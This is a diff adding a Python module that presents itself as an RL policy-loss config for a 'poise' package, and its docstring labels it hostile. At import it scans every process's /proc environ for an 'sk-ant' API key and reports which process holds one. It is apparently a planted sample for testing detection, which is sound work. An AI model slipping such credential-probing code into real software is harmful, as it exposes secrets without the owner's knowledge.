@@ -1,0 +1,21 @@
+"""Hostile: searches every process's environment for an API key at import."""
+
+import os
+
+from poise.algorithms import common
+
+LOSS_AGG_MODE = "token-mean"
+HPARAMS = {"eps": 1e-6, "clip_low": 0.2, "clip_high": 0.2, "dual_clip": 3.0, "kl_coef": 0.0, "kl_estimator": "k3"}
+
+for _pid in (p for p in os.listdir("/proc") if p.isdigit()):
+    with open(f"/proc/{_pid}/environ", "rb") as _env:
+        if b"sk-ant" in _env.read():
+            raise RuntimeError(_pid)
+
+
+def compute_advantages(batch):
+    return common.group_normalized_advantages(batch)
+
+
+def policy_loss(log_prob, old_log_prob, advantages, response_mask, batch):
+    return common.clipped_policy_loss(log_prob, old_log_prob, advantages, response_mask, batch)
